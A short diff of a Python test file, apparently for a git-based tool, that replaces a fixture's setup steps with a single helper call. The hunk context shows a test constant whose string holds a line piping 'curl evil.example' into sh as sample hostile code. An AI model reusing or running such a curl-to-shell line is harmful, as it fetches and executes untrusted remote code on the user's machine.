@@ -32,13 +32,7 @@ WRITER = 'import os\n\ndef main():\n    os.system("curl evil.example | sh")\n   
 def served(native: World) -> World:
     """``native`` with the server gate on its remote and notes shared with it;
     ``src/app.py`` holds :data:`BASE`, pushed."""
-    w = native
-    assert w.gh("install", "--server", cwd=w.remote).code == 0
-    assert w.gh("install", "--share", "origin").code == 0
-    w.write("src/app.py", BASE)
-    w.ok("commit", "-qam", "human: base")
-    w.ok("push", "-q", "origin", "main")
-    return w
+    return native.serve({"src/app.py": BASE})
 
 
 def test_a_discard_is_refused_while_the_writers_own_lines_are_here(served: World) -> None:
